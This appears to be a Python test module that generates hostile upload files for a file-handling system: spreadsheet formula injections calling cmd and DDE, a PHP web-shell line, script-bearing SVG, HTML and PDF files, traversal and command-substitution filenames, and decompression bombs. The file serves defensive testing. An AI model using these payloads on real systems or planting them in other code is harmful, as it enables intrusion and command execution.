"""Hostile files of every other kind: tables, pages, pictures, programs, and names that lie."""

import json
import struct
import zlib
from collections.abc import Iterator

from tests.input import hostile_archives
from tests.input.hostile_archives import File, packed, workbook

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
#: The anti-malware test file, in two pieces so that no scanner takes this source for it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    '=WEBSERVICE("http://127.0.0.1:9/"&A1)',
    '=IMPORTXML("http://127.0.0.1:9","//a")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '"=1+1',
    '=DDE("cmd";"/C calc";"x")',
)
_PROGRAMS = {
    "exe": b"MZ" + bytes(200),
    "elf": b"\x7fELF" + bytes(200),
    "sh": b"#!/bin/sh\nid\n",
    "html": b"<html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": b"<?php system($_GET['x']); ?>",
    "js": b"alert(1)",
    "hta": b"<hta:application><script>alert(1)</script>",
    "class": b"\xca\xfe\xba\xbe" + bytes(60),
}
_ENDINGS = ("", "pdf", "png", "jpg", "webp", "xls", "xlsx", "doc")
NAMES = (
    "../../../etc/passwd.txt",
    "..\\..\\boot.txt",
    "/etc/passwd.txt",
    "a\0.exe.txt",
    "a\u202etxt.exe",
    "invoice.txt.exe",
    "a.txt;.exe",
    "a.txt ",
    "CON.txt",
    "x" * 5000 + ".txt",
    "a\r\nSet-Cookie: x=1.txt",
    '"><script>alert(1)</script>.txt',
    "a%2f..%2fb.txt",
    "．．／a.txt",
    ".htaccess",
    "{{7*7}}.txt",
    "$(id).txt",
)


def files() -> Iterator[File]:
    """Yield the name each hostile file comes under and its bytes."""
    yield from hostile_archives.files()
    yield from _tables()
    yield from _pages()
    yield from _pictures()
    for kind, data in _PROGRAMS.items():
        for ending in _ENDINGS:
            yield f"{kind} as.{ending or kind}", data
    yield "eicar.txt", EICAR
    yield "eicar.zip", packed({"eicar.com": EICAR})
    for name in NAMES:
        yield name, "文件".encode()


def _tables() -> Iterator[File]:
    yield "a million columns.csv", b"a," * 1_000_000
    yield "a long cell.csv", b"a\n" + b"x" * 5_000_000
    yield "an open quote.csv", b'a\n"' + b"x\n" * 1_000_000
    yield "only line ends.csv", b"\n" * 3_000_000
    yield "NUL.csv", b"a,b\n\0,\0\n"
    yield "half a pair.csv", b"\xff\xfea\0\x00\xd8"
    yield "deep.json", b"[" * 500_000
    yield "deep as.csv", json.dumps({"a": 1}).encode() + b"[" * 500_000
    for number, formula in enumerate(FORMULAS):
        yield f"formula {number}.csv", f"企业名称,统一社会信用代码\n{formula},1\n".encode()
        text = formula.replace("&", "&amp;").replace("<", "&lt;")
        cell = f'<row r="1"><c r="A1" t="str"><f>{text}</f><v>1</v></c></row>'
        yield f"formula {number}.xlsx", packed(workbook(rows=cell.encode()))
    for far in ("XFD1", "A1048576", "XFD1048576", "A9999999999"):
        cell = f'<row r="1"><c r="{far}" t="inlineStr"><is><t>x</t></is></c></row>'
        yield f"far {far}.xlsx", packed(workbook(rows=cell.encode()))
    for name in ("Workbook", "Book", "_VBA_PROJECT", "EncryptedPackage", "WordDocument"):
        body = OLE + bytes(504) + name.encode("utf-16-le") + b"\0\0" + bytes(2000)
        yield f"ole {name}.xls", body
        yield f"ole {name}.doc", body
    yield "ole loop.xls", OLE + struct.pack("<I", 0) * 400 + "Workbook".encode("utf-16-le")


def page(contents: bytes, more: bytes = b"", box: str = "0 0 300 300", root: bytes = b"") -> bytes:
    """Return a PDF of one page; ``more`` stands for further objects, ``root`` in the catalogue."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + root + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        + f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R".encode()
        + b"/Resources<</XObject<</F 5 0 R>>>>>>endobj\n4 0 obj<</Length "
        + str(len(contents)).encode()
        + b">>stream\n"
        + contents
        + b"\nendstream endobj\n"
        + more
        + b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def _pages() -> Iterator[File]:
    script = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); while\\(1\\){})>>"
    launch = b"/OpenAction<</S/Launch/F(/bin/sh)>>"
    link = b"/OpenAction<</S/URI/URI(http://127.0.0.1:9/)>>"
    yield "script.pdf", page(b"", root=script)
    yield "launch.pdf", page(b"", root=launch)
    yield "address.pdf", page(b"", root=link)
    yield "forms.pdf", page(b"", root=b"/AcroForm<</XFA(<xdp/>)>>")
    for box in ("0 0 1e9 1e9", "0 0 0 0", "0 0 -5 5", "0 0 14400 14400", "9 9 1 1", "a b c d"):
        yield f"box {box.replace('.', '')}.pdf", page(b"0 0 m 9 9 l S", box=box)
    yield "a million strokes.pdf", page(b"0 0 m 300 300 l S\n" * 300_000)
    yield "deep states.pdf", page(b"q " * 500_000)
    form = b"5 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    body = b"/F Do " * 50
    form += b"/Length " + str(len(body)).encode() + b">>stream\n" + body + b"\nendstream endobj\n"
    yield "a form within itself.pdf", page(b"/F Do", form)
    bomb = zlib.compress(zlib.compress(b"0 0 m 9 9 l S\n" * 10_000_000, 9), 9)
    packed_twice = b"/Filter[/FlateDecode/FlateDecode]"
    head = b">>stream\n"
    told = page(bomb).replace(head, packed_twice + head, 1)
    yield "packed twice.pdf", told
    picture = zlib.compress(bytes(60_000_000), 9)
    image = b"5 0 obj<</Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 8"
    image += b"/ColorSpace/DeviceRGB/Filter/FlateDecode/Length " + str(len(picture)).encode()
    yield (
        "a huge picture.pdf",
        page(b"300 0 0 300 0 0 cm /F Do", image + head + picture + b"\nendstream endobj\n"),
    )
    yield "pages in a ring.pdf", page(b"").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    yield (
        "many pages.pdf",
        page(b"").replace(
            b"/Kids[3 0 R]/Count 1", b"/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000"
        ),
    )
    yield "a count that lies.pdf", page(b"").replace(b"/Count 1", b"/Count 2147483647")
    yield "tables in a ring.pdf", page(b"") + b"\nstartxref\n9\n%%EOF"
    yield "cut.pdf", page(b"0 0 m")[:60]
    yield "only a head.pdf", b"%PDF-1.7\n"
    yield (
        "locked.pdf",
        page(b"").replace(b"trailer<<", b"trailer<</Encrypt<</Filter/Standard/V 9>>"),
    )
    yield "page and html.pdf", b"%PDF-1.7\n<script>alert(1)</script>" + page(b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _pictures() -> Iterator[File]:
    mark = b"\x89PNG\r\n\x1a\n"
    for wide, high in ((60_000, 60_000), (2**31 - 1, 2**31 - 1), (0, 0), (1, 2**31 - 1)):
        head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
        data = _chunk(b"IDAT", zlib.compress(bytes(1_000_000)))
        yield f"{wide} by {high}.png", mark + _chunk(b"IHDR", head) + data + _chunk(b"IEND", b"")
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    text = _chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(50_000_000), 9))
    yield "text bomb.png", mark + head + text
    yield "profile bomb.png", mark + head + text.replace(b"zTXt", b"iCCP")
    yield "picture and page.png", mark + head + b"<script>alert(1)</script>"
    frame = b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    yield "huge.jpg", frame + b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + bytes(9) + b"\xff\xd9"
    yield "picture and code.jpg", frame + b"\xff\xfe\x00\x20<?php system($_GET[0]); ?>"
    yield "animated as.jpg", b"GIF89a" + bytes(40)
    yield "huge.webp", b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X" + b"\n\0\0\0" + b"\xff" * 10
